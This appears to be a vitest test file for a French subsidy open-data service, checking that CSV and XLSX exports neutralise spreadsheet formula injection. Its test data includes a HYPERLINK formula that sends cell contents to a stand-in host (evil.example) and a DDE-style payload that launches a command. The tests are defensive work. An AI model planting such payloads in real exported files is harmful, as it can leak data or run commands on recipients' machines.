import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { toCsv } from "@/lib/open-data/csv";
import type { ScdlSubventionRow } from "@/lib/open-data/scdl-schema";
import { csvLine } from "./csv";
import { neutraliseFormula } from "./formula";
import { xlsxChunks } from "./xlsx";

const attacks = ['=HYPERLINK("https://evil.example/?"&A1,"Voir")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"];

describe("formula injection in the files the service writes", () => {
  it.each(attacks)("neutralises a text cell starting like a formula: %j", (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(["-1250.5", "-3", "+12", "25000", "0.25", "Thiers", "coopération = solidarité"])(
    "leaves numbers and ordinary text as they are: %j",
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );

  it("the review export's CSV and XLSX neutralise text cells, not numbers", async () => {
    expect(csvLine(["=1+1", -12.5, "-5"])).toBe("'=1+1;-12.5;-5\r\n");
    async function* row() {
      yield ["@cmd", -3];
    }
    const chunks: Uint8Array[] = [];
    for await (const chunk of xlsxChunks("Feuille", ["Texte", "Nombre"], row())) chunks.push(chunk);
    const sheet = new TextDecoder().decode(unzipSync(Buffer.concat(chunks))["xl/worksheets/sheet1.xml"]);
    expect(sheet).toContain(
      '<row r="2" spans="1:2" x14ac:dyDescent="0.25"><c r="A2" t="str"><v>&apos;@cmd</v></c><c r="B2"><v>-3</v></c></row>',
    );
  });

  it("the open-data CSV neutralises text cells and keeps montant a number", () => {
    const row: ScdlSubventionRow = {
      nomAttribuant: "Ministère",
      idAttribuant: "12000601000025",
      dateConvention: "2025-07-01",
      referenceDecision: "",
      nomBeneficiaire: '=HYPERLINK("https://evil.example")',
      idBeneficiaire: "",
      rnaBeneficiaire: "",
      objet: "@SUM(1+1)*cmd|' /C calc'!A0",
      montant: "-1250.5",
      nature: "aide en numéraire",
      conditionsVersement: "unique",
      datesPeriodeVersement: "2025-07-01",
      idRAE: "",
      notificationUE: "non",
      pourcentageSubvention: "1",
      dispositifAide: "+Appel",
    };
    const line = toCsv([row]).split("\r\n")[1] as string;
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example"")"`);
    expect(line).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(line).toContain(",-1250.5,");
    expect(line.endsWith(",'+Appel")).toBe(true);
  });
});
